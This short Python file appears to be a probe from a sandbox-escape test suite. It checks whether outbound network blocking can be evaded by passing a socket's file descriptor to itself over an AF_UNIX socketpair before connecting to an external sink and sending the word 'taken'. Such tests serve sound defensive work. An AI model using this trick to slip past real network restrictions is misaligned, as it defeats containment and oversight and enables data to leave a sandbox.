# class: network
# rule: outbound_connectivity
# success: a socket passed to itself over AF_UNIX connects by its new fd
# proof: sink
# needs: python>=3.9
import socket

from attack import SINK, attempt


@attempt
def connect():
    near, far = socket.socketpair()
    first = socket.socket()
    socket.send_fds(near, [b"."], [first.fileno()])
    _, descriptors, _, _ = socket.recv_fds(far, 1, 1)
    out = socket.socket(fileno=descriptors[0])
    out.connect(SINK)
    return out.send(b"taken") == 5
